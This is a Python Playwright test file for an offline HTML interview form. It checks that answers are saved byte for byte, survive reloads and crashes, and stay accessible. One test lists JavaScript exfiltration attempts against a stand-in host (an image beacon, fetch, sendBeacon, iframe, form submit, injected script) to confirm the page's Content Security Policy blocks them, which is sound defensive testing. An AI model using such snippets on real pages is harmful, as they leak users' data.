"""The form in a real browser, opened from disk: nothing typed is lost, nothing leaves, and everybody can use it."""

from __future__ import annotations

import json
import re
import tomllib
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings

from interviewkit.letter import Asked, Letter, words
from interviewkit.letter.form import FOLDER, render
from interviewkit.model import Kind
from interviewkit.reply.readers.form import parse
from tests.letter.letters import letters
from tests.reply.form_file import Answer, data, written
from tests.reply.test_form_file import answers, expected, told

SIZES = {"phone": (360, 740), "desktop": (1280, 900)}
LETTER = Letter(
    token="IK-7F3AQ2",
    title="Kites over the harbour",
    language="en",
    interviewer="Odile Brandt",
    guest="Per",
    anonymous=False,
    asked=(
        Asked("q1", "Q01", "Who taught you to build kites?"),
        Asked(
            "q2", "Q02", "Which wind do you like best?\n\n- the morning one\n- any that lasts", section="On the quay"
        ),
        Asked("q3", "Q03b", "And when there is none?", earlier="I like the wind that comes just before the rain…"),
        Asked("q4", "Q04", '</script><b>Bold</b> & "quoted"?\u2028 🪁 ماذا؟', section="At home"),
    ),
)
MARKS = [asked.mark for asked in LETTER.asked]
NASTY = {
    "Q01": "\n\n  Two lines above, spaces before, and a tab\there.  \n\n",
    "Q02": '=== Q02 ===\n=== /Q02 123456 ===\n\\=== Q01 ===\n\\"\n"quoted"\n[Q01] Who?\n-> x (off-record)\n-- \n> b',
    "Q03b": "NUL \0 and VT \x0b, NEL \x85, LS \u2028, PS \u2029, BOM \ufeff, 🪁👩\u200d🔧 e\u0301 مرحبا \u202e\uffff\\",
    "Q04": "\ufefffirst\n\x1f\n\x7f",
}


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data


class Form:
    """The form in a window of a browser, as a guest has it before them."""

    def __init__(self, page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.complaints: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda fault: self.complaints.append(str(fault)))
        page.on("dialog", self._answer)
        self.dialogs: list[tuple[str, str]] = []

    def _answer(self, dialog) -> None:
        self.dialogs.append((dialog.type, dialog.message))
        dialog.accept()

    def all(self) -> None:
        """All questions on the page."""
        self.page.click("#mode")

    def write(self, mark: str, text: str) -> None:
        self.page.fill(f"#{mark} .text", text)

    def put(self, mark: str, answer: Answer) -> None:
        """An answer with all that belongs to it, put into the fields as typing would."""
        self.page.evaluate(
            """([mark, {way, kind, text, off}]) => {
                const box = document.getElementById(mark);
                box.querySelector(`.ways [value=${way}]`).checked = true;
                box.querySelector(`.kinds [value="${kind}"]`).checked = true;
                box.querySelector(way === "pass" ? ".words textarea" : ".text").value = text;
                box.querySelector(".off input").checked = off;
                box.dispatchEvent(new Event("input"));
            }""",
            [mark, vars(answer)],
        )

    def value(self, mark: str) -> str:
        return str(self.page.input_value(f"#{mark} .text"))

    def saved(self) -> bytes:
        """The bytes of the file that the button saves."""
        with self.page.expect_download() as waiting:
            self.page.evaluate("document.getElementById('save').click()")
        return waiting.value.path().read_bytes()

    def kept(self) -> None:
        """Wait until what was typed is kept."""
        self.page.locator("#status:not(:empty)").wait_for(state="attached")

    def faults(self, axe: str) -> list[object]:
        self.page.evaluate(axe)
        found = self.page.evaluate("axe.run(document, {rules: {'target-size': {enabled: true}}})")
        return [(fault["id"], [node["html"] for node in fault["nodes"]]) for fault in found["violations"]]


@pytest.fixture(scope="module")
def address(tmp_path_factory):
    path = tmp_path_factory.mktemp("form") / "questions.html"
    path.write_bytes(render(LETTER))
    return path.as_uri()


@pytest.fixture
def window(browser):
    """A browser of its own, empty of everything kept, in the size and the colours wished for."""
    contexts = []

    def opened(*, size="phone", scheme="light", **wishes):
        width, height = SIZES[size]
        context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme, **wishes)
        context.set_default_timeout(5000)
        contexts.append(context)
        return context

    yield opened
    for context in contexts:
        context.close()


@pytest.fixture
def opened(window, address):
    """Open the form."""

    def form(*, before: str = "", **wishes) -> Form:
        page = window(**wishes).new_page()
        if before:
            page.add_init_script(before)
        form = Form(page)
        page.goto(address)
        return form

    return form


# What is typed is what comes back.


@pytest.mark.parametrize("size", SIZES)
def test_the_saved_file_is_what_was_typed_byte_for_byte(opened, size):
    form = opened(size=size)
    form.all()
    for mark, text in NASTY.items():
        form.put(mark, Answer(text))
    saved = form.saved()
    assert saved == written(LETTER, {mark: Answer(text) for mark, text in NASTY.items()}).encode()
    assert {one.mark: one.text for one in parse(saved.decode(), "answers.txt").given} == NASTY


def test_any_answers_come_back_through_the_browser_and_the_reader(opened):
    form = opened()
    form.page.evaluate(
        """() => {
            URL.createObjectURL = (blob) => { window.blob = blob; return "blob:none"; };
            HTMLAnchorElement.prototype.click = () => {};
        }"""
    )

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(answers)
    def holds(given):
        for mark, answer in given.items():
            form.put(mark, answer)
        text = form.page.evaluate("document.getElementById('save').click() || window.blob.text()")
        document = parse(text, "answers.txt")
        assert told(document) == expected(given)
        assert document.lines == []
        assert text == written(LETTER, given)

    holds()


def test_words_off_the_record_are_marked_even_if_only_some_programs_take_them_for_words(opened):
    form = opened()
    for text in ("\ufeff", "\x1c", "\u200b", "\u180e", "\x85"):
        form.put("Q01", Answer(text, off=True))
        assert "(off-record)" in form.saved().decode()


def test_half_a_pair_becomes_what_browsers_make_of_it(opened):
    form = opened()
    form.page.evaluate(
        """() => {
            document.querySelector("#Q01 .text").value = "a\\ud83e\\u0000\\n\\udd16b \\ud83e\\udd16";
            document.getElementById("Q01").dispatchEvent(new Event("input"));
        }"""
    )
    assert parse(form.saved().decode(), "answers.txt").given[0].text == "a\ufffd\0\n\ufffdb 🤖"


def test_a_megabyte_is_kept_and_saved(opened):
    form = opened(size="desktop")
    text = "Wind, and more wind.\n" * 50_000
    form.put("Q01", Answer(text))
    assert parse(form.saved().decode(), "answers.txt").given[0].text == text
    form.page.reload()
    assert form.value("Q01") == text


def test_what_was_typed_and_then_left_out_is_not_in_the_file(opened):
    form = opened()
    form.all()
    form.write("Q01", "A secret.")
    form.page.check("#Q01 .ways [value=pass]")
    form.page.check("#Q01 [value='not my role']")
    form.page.fill("#Q01 .words textarea", "Ask the harbour master.")
    saved = form.saved().decode()
    assert "secret" not in saved
    assert told(parse(saved, "a.txt")) == {"Q01": Answer("Ask the harbour master.", "pass", "not my role")}
    form.page.check("#Q01 .ways [value=answer]")
    assert form.value("Q01") == "A secret."


def test_a_part_of_an_answer_and_words_off_the_record_are_marked(opened):
    form = opened()
    form.all()
    form.write("Q01", "My uncle, and somebody else.")
    form.page.check("#Q01 .ways [value=part]")
    form.page.check("#Q01 [value='prefers not to']")
    form.page.check("#Q01 .off input")
    back = told(parse(form.saved().decode(), "a.txt"))
    assert back == {"Q01": Answer("My uncle, and somebody else.", "part", "prefers not to", True)}


def test_the_copy_is_for_a_mail_and_has_every_answer_under_its_mark(opened):
    form = opened(permissions=["clipboard-read", "clipboard-write"])
    form.all()
    form.write("Q01", "My uncle.\n\n=== He ===")
    form.page.check("#Q02 .ways [value=pass]")
    form.page.fill("#Q02 .words textarea", "Too many.")
    form.write("Q03b", "I wait.")
    form.page.check("#Q03b .off input")
    form.page.click("#copy")
    form.page.locator("#told:not(:empty)").wait_for()
    assert form.page.evaluate("navigator.clipboard.readText()") == (
        "Kites over the harbour [IK-7F3AQ2]\n\n"
        "[Q01] Who taught you to build kites?\n\nMy uncle.\n\n=== He ===\n\n"
        "~ On the quay ~\n\n[Q02] Which wind do you like best?\n\n      - the morning one\n      - any that lasts\n\n"
        "I PASS\nToo many.\n\n"
        "(You answered: “I like the wind that comes just before the rain…”)\n[Q03b] And when there is none?\n\n"
        "-> Off the record: not to be published (off-record)\nI wait.\n"
    )


def test_copying_works_without_the_clipboard_of_new_browsers(opened):
    form = opened(
        permissions=["clipboard-read"],
        before="const {clipboard} = navigator; window.read = () => clipboard.readText();"
        "Object.defineProperty(navigator, 'clipboard', {value: undefined});",
    )
    form.all()
    form.write("Q01", "My uncle.")
    form.page.click("#copy")
    assert "My uncle." in form.page.evaluate("window.read()")
    assert form.page.evaluate("document.activeElement.id") == "copy"


SHARES = """
navigator.canShare = ({files}) => files[0].type === "text/plain";
navigator.share = async ({files}) => {
    if (window.fault) throw new DOMException("", window.fault);
    window.shared = [files[0].name, await files[0].text()];
};
"""


def test_a_phone_that_shares_files_is_handed_the_same_file(opened):
    form = opened(before=SHARES)
    form.all()
    form.write("Q01", "My uncle.")
    form.page.click("#share")
    form.page.locator("#told", has_text="Handed over.").wait_for()
    assert form.page.evaluate("window.shared") == ["answers-IK-7F3AQ2.txt", form.saved().decode()]


def test_sharing_that_fails_is_told_and_one_that_was_called_off_is_not(opened):
    form = opened(before=SHARES)
    form.all()
    form.write("Q01", "My uncle.")
    form.page.evaluate("window.fault = 'AbortError'")
    form.page.click("#share")
    assert form.page.inner_text("#told") == ""
    form.page.evaluate("window.fault = 'NotAllowedError'")
    form.page.click("#share")
    form.page.locator("#told", has_text="did not work").wait_for()
    form.page.reload()
    assert ("beforeunload", "") in form.dialogs


def test_a_browser_that_cannot_share_files_offers_no_button_for_it(opened):
    form = opened(before="navigator.canShare = undefined;")
    form.all()
    assert not form.page.is_visible("#share")
    assert form.page.is_visible("#save")


# What is typed stays.


def test_after_a_reload_everything_is_as_it_was(opened):
    form = opened()
    form.page.click("#next")
    form.write("Q01", "My uncle.\n")
    form.page.click("#next")
    form.page.check("#Q02 .ways [value=pass]")
    form.page.check("#Q02 [value=cannot]")
    form.page.fill("#Q02 .words textarea", "None.")
    form.page.check("#Q02 .off input")
    before = form.saved()
    form.page.reload()
    assert form.page.is_visible("#Q02")
    assert not form.page.is_visible("#Q01")
    assert form.value("Q01") == "My uncle.\n"
    assert form.page.input_value("#Q02 .words textarea") == "None."
    assert form.saved() == before
    assert form.page.inner_text("#count") == "1 of 4 answered · 1 left out"


def test_a_crashed_page_comes_back_with_what_was_typed(window, address):
    context = window()
    form = Form(context.new_page())
    form.page.goto(address)
    form.all()
    form.page.type("#Q01 .text", "My uncle.")
    form.kept()
    with pytest.raises(Exception, match=r"crash|closed"):
        form.page.goto("chrome://crash")
    again = Form(context.new_page())
    again.page.goto(address)
    assert again.value("Q01") == "My uncle."
    assert again.page.is_visible("#Q04")


def test_two_windows_do_not_overwrite_each_other(window, address):
    context = window()
    first, second = Form(context.new_page()), Form(context.new_page())
    for form in (first, second):
        form.page.goto(address)
        form.all() if form is first else None
    first.write("Q01", "From the first.")
    first.kept()
    second.page.wait_for_timeout(300)
    assert second.value("Q01") == "From the first."
    second.put("Q02", Answer("From the second."))
    second.kept()
    first.page.reload()
    assert (first.value("Q01"), first.value("Q02")) == ("From the first.", "From the second.")


def test_erasing_leaves_nothing_behind(opened):
    form = opened()
    form.all()
    form.write("Q01", "My uncle.")
    form.kept()
    form.page.click("#erase")
    assert form.dialogs[0][0] == "confirm"
    assert form.value("Q01") == ""
    assert "My uncle" not in form.page.evaluate("JSON.stringify(localStorage)")
    form.page.reload()
    assert form.value("Q01") == ""
    assert len(form.dialogs) == 1


def test_leaving_with_words_that_are_in_no_file_asks_first(opened):
    form = opened()
    form.all()
    form.page.reload()
    assert form.dialogs == []
    form.write("Q01", "My uncle.")
    form.page.reload()
    assert [kind for kind, _ in form.dialogs] == ["beforeunload"]
    form.page.click("#save")
    form.page.reload()
    assert len(form.dialogs) == 1


def test_a_browser_that_keeps_nothing_is_told_of_and_works(opened):
    form = opened(before="Object.defineProperty(window, 'localStorage', {get() { throw new Error('no'); }});")
    assert form.page.inner_text("#kept").startswith("This browser does not let a page keep")
    form.page.click("#next")
    form.write("Q01", "My uncle.")
    form.kept()
    assert form.page.inner_text("#status").startswith("This browser does not let a page keep")
    assert parse(form.saved().decode(), "a.txt").given[0].text == "My uncle."


def test_a_full_browser_says_so_and_still_saves(opened):
    form = opened()
    form.put("Q01", Answer("x" * 6_000_000))
    form.kept()
    assert form.page.text_content("#status").startswith("There is no room left")
    assert len(parse(form.saved().decode(), "a.txt").given[0].text) == 6_000_000


def test_what_something_else_left_in_the_store_does_no_harm(opened):
    form = opened(
        before="""const left = {Q01: "{", Q02: '{"way": "fly", "kind": 3, "text": "ok"}', at: '"Q99"'};
            for (const name in left) localStorage.setItem(`interviewkit IK-7F3AQ2 ${name}`, left[name]);"""
    )
    assert form.complaints == []
    assert (form.value("Q01"), form.value("Q02")) == ("", "ok")
    assert form.page.is_visible("#intro")


# Nothing leaves.


def test_nothing_is_asked_of_any_network(opened, address):
    form = opened()
    form.page.click("#next")
    form.write("Q01", "My uncle.")
    form.saved()
    form.page.wait_for_load_state("networkidle")
    assert {url for url in form.asked if not url.startswith("blob:")} == {address}
    assert form.complaints == []


ATTEMPTS = [
    "new Image().src = 'https://example.org/spy.png'",
    "fetch('https://example.org/').catch(() => {})",
    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.spied = 1'}))",
    "document.body.append(Object.assign(document.createElement('style'), {textContent: '* { display: none }'}))",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://example.org/'}))",
    "document.body.append(Object.assign(document.createElement('form'), {action: 'https://example.org/'}))"
    " || document.forms[0].submit()",
    "navigator.sendBeacon('https://example.org/', 'x')",
]


def test_the_page_forbids_itself_to_send_or_load_anything(opened):
    form = opened()
    for attempt in ATTEMPTS:
        form.complaints.clear()
        form.page.evaluate(attempt)
        # What the browser forbids, it says a moment later; on a busy machine that moment is long.
        for _ in range(100):
            if any("Content Security Policy" in complaint for complaint in form.complaints):
                break
            form.page.wait_for_timeout(50)
        assert any("Content Security Policy" in complaint for complaint in form.complaints), attempt
    assert form.page.evaluate("window.spied") is None


# Everybody can use it.


@pytest.mark.parametrize(("size", "scheme", "other"), [("phone", "dark", "light"), ("desktop", "light", "dark")])
def test_axe_finds_nothing_to_mend(opened, axe, size, scheme, other):
    form = opened(size=size, scheme=scheme)
    assert form.faults(axe) == []
    form.page.click("#next")
    form.page.check("#Q01 .ways [value=pass]")
    form.kept()
    assert form.faults(axe) == []
    form.page.evaluate("for (let n = 0; n < 4; n++) document.getElementById('next').click()")
    form.page.click("#save")
    assert form.faults(axe) == []
    form.all()
    form.page.check("#Q02 .ways [value=part]")
    form.page.check("#Q02 .off input")
    assert form.faults(axe) == []
    form.page.emulate_media(color_scheme=other)
    assert form.faults(axe) == []


def test_axe_would_find_a_field_without_a_name(opened, axe):
    form = opened()
    form.page.click("#next")
    form.page.evaluate("document.querySelector('#Q01 .text').removeAttribute('aria-labelledby')")
    assert "label" in [name for name, _ in form.faults(axe)]


def press_to(form: Form, wanted: str) -> None:
    """Press the tab key until that element has the focus, which must be seen on the way."""
    for _ in range(30):
        form.page.keyboard.press("Tab")
        if form.page.evaluate("wanted => document.activeElement.matches(wanted)", wanted):
            break
    else:
        pytest.fail(f"no key leads to {wanted}")
    outline, visible = form.page.evaluate(
        """() => {
            const {activeElement} = document;
            const {top, bottom} = activeElement.getBoundingClientRect();
            const bar = document.querySelector(".bar").getBoundingClientRect().bottom;
            const inside = activeElement.closest(".bar") || (top >= bar - 1 && top < innerHeight && bottom > bar);
            const {outlineStyle, outlineWidth} = getComputedStyle(activeElement);
            return [`${outlineStyle} ${outlineWidth}`, Boolean(inside)];
        }"""
    )
    assert outline == "solid 3px"
    assert visible


@pytest.mark.parametrize("size", SIZES)
def test_the_keyboard_alone_leads_from_the_first_question_to_the_file(opened, size):
    form = opened(size=size)
    press_to(form, "#next")
    form.page.keyboard.press("Enter")
    for mark in MARKS:
        assert form.page.evaluate("document.activeElement.id") == f"{mark}-asked"
        if mark == "Q02":
            press_to(form, ".ways input")
            form.page.keyboard.press("ArrowLeft")
            press_to(form, ".kinds input")
            form.page.keyboard.press("ArrowDown")
            press_to(form, ".words textarea")
        else:
            press_to(form, ".text")
        form.page.keyboard.type(f"Answer {mark}\nand more")
        press_to(form, ".off input")
        press_to(form, "#next")
        form.page.keyboard.press("Enter")
    assert form.page.evaluate("document.activeElement.id") == "end-title"
    assert form.page.inner_text("#open") == "Every question has an answer."
    press_to(form, "#save")
    with form.page.expect_download() as waiting:
        form.page.keyboard.press("Enter")
    back = told(parse(waiting.value.path().read_text(encoding="utf-8"), "a.txt"))
    assert back["Q02"] == Answer("Answer Q02\nand more", "pass", "prefers not to")
    assert back["Q04"] == Answer("Answer Q04\nand more")
    assert form.page.evaluate("document.activeElement.id") == "save"


def test_a_screen_reader_hears_the_question_with_its_field_and_that_it_is_kept(opened):
    form = opened()
    form.page.click("#next")
    form.page.click("#next")
    form.page.click("#next")
    field = form.page.get_by_role("textbox", name="Q03b And when there is none?")
    field.fill("I wait.")
    described = form.page.evaluate("document.querySelector('#Q03b .text').getAttribute('aria-describedby')")
    assert "before the rain" in form.page.inner_text(f"#{described}")
    form.kept()
    assert form.page.get_by_role("status").filter(has_text="Kept in this browser").count() == 1


def test_going_back_on_a_phone_leads_to_the_question_before(opened):
    form = opened()
    form.page.click("#next")
    form.write("Q01", "My uncle.")
    form.page.click("#next")
    form.page.go_back()
    assert form.page.is_visible("#Q01")
    form.page.go_back()
    assert form.page.is_visible("#intro")
    form.page.go_forward()
    assert form.value("Q01") == "My uncle."
    assert form.dialogs == []


def test_the_choice_between_one_and_all_is_remembered_and_shows_the_heading_of_a_section(opened):
    form = opened()
    form.page.click("#next")
    form.page.click("#next")
    form.page.click("#next")
    assert form.page.locator("h2:visible").all_inner_texts() == ["On the quay"]
    assert form.page.inner_text("#place") == "Question 3 of 4"
    form.all()
    assert form.page.evaluate("document.activeElement.id") == "mode"
    assert form.page.locator(".ask:visible").count() == 4
    form.page.reload()
    assert form.page.locator(".ask:visible").count() == 4
    form.page.focus("#Q04 .text")
    form.all()
    assert form.page.locator(".ask:visible").count() == 1
    assert form.page.is_visible("#Q04")


def test_what_is_still_open_is_listed_and_leads_there(opened):
    form = opened()
    form.put("Q01", Answer("My uncle."))
    form.page.evaluate("for (let n = 0; n < 5; n++) document.getElementById('next').click()")
    assert form.page.locator("#open-list button").all_inner_texts() == ["Q02", "Q03b", "Q04"]
    form.page.click("#open-list button >> nth=1")
    assert form.page.evaluate("document.activeElement.id") == "Q03b-asked"


@pytest.mark.parametrize("native", [True, False])
def test_a_field_grows_with_what_is_in_it(opened, native):
    old = (
        "const {supports} = CSS; CSS.supports = (name, ...more) => name !== 'field-sizing' && supports(name, ...more);"
    )
    form = opened(before="" if native else old, bypass_csp=not native)
    if not native:
        form.page.add_style_tag(content="textarea { field-sizing: fixed !important; }")
    form.page.click("#next")
    heights = []
    for lines in (1, 30, 60):
        form.write("Q01", "Wind.\n" * lines)
        heights.append(form.page.evaluate("document.querySelector('#Q01 .text').clientHeight"))
        assert form.page.evaluate("(f => f.scrollHeight <= f.clientHeight + 1)(document.querySelector('#Q01 .text'))")
    assert heights[0] < heights[1] < heights[2]


@pytest.mark.parametrize("language", ["de", "fr", "ar"])
def test_no_width_needs_scrolling_sideways(window, tmp_path, language):
    path = tmp_path / "form.html"
    long = Asked("q9", "Q05", "w" * 400 + "?", section="s" * 200, earlier="e" * 200)
    path.write_bytes(render(replace(LETTER, language=language, asked=(*LETTER.asked, long), title="t" * 100)))
    page = window().new_page()
    page.goto(path.as_uri())
    assert page.evaluate("document.documentElement.dir") == ("rtl" if language == "ar" else "ltr")
    page.click("#next")
    for width in (320, 1280):
        page.set_viewport_size({"width": width, "height": 640})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.click("#mode")
    page.check("#Q01 .ways [value=pass]")
    page.check("#Q02 .ways [value=part]")
    page.fill("#Q02 .text", "a" * 500)
    for width in (320, 1280):
        page.set_viewport_size({"width": width, "height": 640})
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_dark_is_dark_and_light_is_light(opened):
    lights = {}
    for scheme in ("light", "dark"):
        colour = opened(scheme=scheme).page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
        lights[scheme] = sum(int(part) for part in colour[4:-1].split(","))
    assert lights["light"] > 700
    assert lights["dark"] < 120


def test_on_paper_every_question_is_there_with_its_answer_or_lines_to_write_on(opened):
    form = opened(scheme="dark")
    form.put("Q01", Answer("My uncle.\n\n  Arvo.", off=True))
    form.page.emulate_media(media="print")
    form.page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    paper = form.page.inner_text("main")
    for asked in LETTER.asked:
        assert f"[{asked.mark}]" in paper
    assert "Off the record: not to be published\nMy uncle.\n\n  Arvo." in paper
    assert form.page.locator(".rules:visible").count() == 3
    assert form.page.locator("button:visible, textarea:visible, input:visible").count() == 0
    assert form.page.evaluate("getComputedStyle(document.documentElement).backgroundColor") == "rgb(255, 255, 255)"
    assert form.page.pdf().startswith(b"%PDF")


def test_without_its_script_the_page_shows_the_questions_and_how_to_answer(opened):
    page = opened(java_script_enabled=False).page
    text = page.inner_text("main")
    for asked in LETTER.asked:
        assert f"[{asked.mark}]" in text
    assert "- the morning one\n- any that lasts" in text
    assert "answer by mail" in text
    assert "IK-7F3AQ2" in text
    assert page.locator("button:visible, textarea:visible").count() == 0


def test_the_text_of_a_question_is_text(opened):
    form = opened()
    form.all()
    assert '</script><b>Bold</b> & "quoted"?' in form.page.inner_text("#Q04-asked")
    assert form.page.locator("#Q04-asked b").count() == 0


# The page itself.


def test_the_same_letter_gives_the_same_bytes():
    assert render(LETTER) == render(LETTER)


@settings(max_examples=40, deadline=None)
@given(letters())
def test_any_letter_is_a_page_with_all_its_questions(letter):
    page = render(letter).decode()
    assert page.count("</script>") == 2
    reader = _Text()
    reader.feed(page)
    shown = "".join(reader.text.split())
    for asked in letter.asked:
        assert re.sub(r"[\s\0-\x1f\x7f-\x9f\ufeff\ufffe\uffff]+", "", asked.question) in re.sub(
            r"[\0-\x1f\x7f-\x9f\ufeff\ufffd]+", "", shown
        )
    assert [asked["mark"] for asked in data(letter)["asked"]] == [asked.mark for asked in letter.asked]


@settings(max_examples=40, deadline=None)
@given(letters())
def test_no_letter_has_a_line_in_its_file_that_its_reader_takes_for_a_guests(letter):
    given = {asked.mark: Answer(f"Answer {asked.mark}", off=True) for asked in letter.asked}
    document = parse(written(letter, given), "a.txt")
    assert told(document) == given
    assert document.lines == []
    assert document.tokens == (letter.token,)


@pytest.mark.parametrize(
    ("guest", "anonymous", "said"),
    [("Per", False, "Hello Per,"), ("", True, "Your name will not be published."), ("", False, "Hello,")],
)
def test_the_page_says_how_the_answers_will_be_used(guest, anonymous, said):
    assert said in render(replace(LETTER, guest=guest, anonymous=anonymous)).decode()


def test_a_template_of_the_interviewers_own_stands_around_the_questions():
    page = render(replace(LETTER, template="Ahoy <you>! {how}\n\n{questions}\n\nFair winds. {token}")).decode()
    assert re.search(r"Ahoy &lt;you&gt;! Take the questions.*id=\"Q01\".*Fair winds\. IK-7F3AQ2", page, re.DOTALL)


def test_words_that_are_not_in_the_language_of_the_letter_say_so():
    page = render(replace(LETTER, language="ar")).decode()
    assert '<html lang="ar" dir="rtl">' in page
    assert 'id="kept" lang="en" dir="ltr"' in page
    assert 'lang="en"' not in render(LETTER).decode().replace('<html lang="en"', "").replace(
        'rows="5" lang="en"', ""
    ).replace('rows="2" lang="en"', "")


# The words.


def keys(value: object, name: str = "") -> set[str]:
    if not isinstance(value, dict):
        return {name + "".join(sorted(re.findall(r"\{\w+\}", str(value))))}
    return {key for part, inner in value.items() for key in keys(inner, f"{name}.{part}")}


LANGUAGES = {path.stem: tomllib.loads(path.read_text(encoding="utf-8")) for path in FOLDER.glob("*.toml")}


@pytest.mark.parametrize("language", sorted(words.known()))
def test_every_language_of_a_letter_has_the_same_words_for_the_form(language):
    assert keys(LANGUAGES[language]) == keys(LANGUAGES["en"])
    assert set(LANGUAGES[language]["why"]["kinds"]) == set(map(str, Kind))


def test_french_keeps_its_signs_with_their_words():
    assert not re.search(r" [:;!?»]|« ", json.dumps(LANGUAGES["fr"], ensure_ascii=False).replace('": ', ""))


def test_the_words_of_the_form_are_in_the_language_of_the_letter():
    for language, form in LANGUAGES.items():
        assert form["walk"]["next"] in render(replace(LETTER, language=language)).decode()
